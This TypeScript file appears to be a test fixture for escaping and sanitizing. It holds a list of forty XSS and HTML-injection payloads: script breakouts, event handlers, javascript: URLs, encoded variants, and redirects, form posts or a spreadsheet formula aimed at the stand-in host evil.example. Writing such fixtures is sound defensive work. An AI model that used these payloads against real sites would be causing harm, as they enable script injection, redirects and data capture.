/** In every planted string, to find again where it is shown. */
export const MARK = "zqx";

const run = "window.planted=1";
const element = `<b data-planted>${MARK}</b>`;

/**
 * Forty ways in which text could become more than text: out of an element, an attribute, a script, an address, a style,
 * a comment, another coding. Each would set `window.planted`, open a dialog, or leave an element with `data-planted`.
 */
export const PLANTS: string[] = [
  `<script>${run}</script>${MARK}`,
  `</title><script>${run}</script>${MARK}`,
  `</textarea><script>${run}</script>${MARK}`,
  `</script><script>${run}</script>${MARK}`,
  `</style><script>${run}</script>${MARK}`,
  `</option></select>${element}`,
  `</template>${element}`,
  `</svg>${element}`,
  `--><script>${run}</script>${MARK}`,
  `]]><script>${run}</script>${MARK}`,
  `<img src=x onerror="${run}">${MARK}`,
  `<img src=x onerror=alert(1) data-planted>${MARK}`,
  `<svg onload="${run}" data-planted>${MARK}`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>${MARK}`,
  `<svg><use href="data:image/svg+xml,${MARK}" data-planted>`,
  `<math><mtext></mtext><mglyph><style>${element}`,
  `<iframe srcdoc="${element}" data-planted>${MARK}`,
  `<object data="data:text/html,${MARK}" data-planted>`,
  `<embed src="/sign-out" data-planted>${MARK}`,
  `<base href="//evil.example/" data-planted>${MARK}`,
  `<meta http-equiv=refresh content="0;url=//evil.example" data-planted>${MARK}`,
  `<link rel=stylesheet href="//evil.example" data-planted>${MARK}`,
  `<form action=//evil.example data-planted><button>${MARK}`,
  `<input autofocus onfocus="${run}" data-planted>${MARK}`,
  `<details open ontoggle="${run}" data-planted>${MARK}`,
  `<a href="javascript:${run}" data-planted>${MARK}</a>`,
  `<style data-planted>@import "//evil.example";</style>${MARK}`,
  `<leptos-island data-component=Lock data-planted>${MARK}`,
  `" onmouseover="${run}" data-planted x="${MARK}`,
  `' autofocus onfocus='${run}' data-planted x='${MARK}`,
  `"><script>${run}</script>${MARK}`,
  `'><b data-planted>${MARK}`,
  `javascript:${run}//${MARK}`,
  `\${${run}}{{${run}}}<%=1%>${MARK}`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e${MARK}`,
  `&lt;script&gt;${run}&lt;/script&gt;${MARK}`,
  `%3Cscript%3E${run}%3C/script%3E${MARK}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-${MARK}`,
  `<\u200bscript>${run}</script\u2028>${MARK}`,
  `=HYPERLINK("//evil.example";"${MARK}")<b data-planted>`,
];
